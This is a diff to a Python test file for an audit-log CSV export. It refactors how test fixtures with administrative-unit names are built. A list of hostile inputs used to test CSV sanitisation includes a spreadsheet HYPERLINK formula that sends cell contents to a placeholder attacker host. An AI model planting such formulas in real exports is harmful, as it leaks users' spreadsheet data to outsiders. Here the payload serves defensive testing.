@@ -15,7 +15,7 @@ from click.testing import CliRunner
 
 from app.audit.log import COLUMNS, as_csv, csv_safe
 from app.cli.main import cli
-from tests.builders import CITY, cmd
+from tests.builders import CITY, cmd, open_unit
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -63,15 +63,7 @@ def _store_with_hostile_reasons(db: str) -> None:
     units = [("210521", "本溪县"), ("210522", "桓仁县"), ("210502", "平山区"), ("210503", "溪湖区")]
     lines = [cmd("open_unit", on="2014-01-01", code=CITY, name="本溪市", level="city")]
     lines += [
-        cmd(
-            "open_unit",
-            on="2014-01-01",
-            code=code,
-            name=name,
-            level="county",
-            parent=CITY,
-            reason=reason,
-        )
+        open_unit(code, name, "county", CITY, reason=reason)
         for (code, name), reason in zip(units, HOSTILE[:4], strict=True)
     ]
     text = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines)
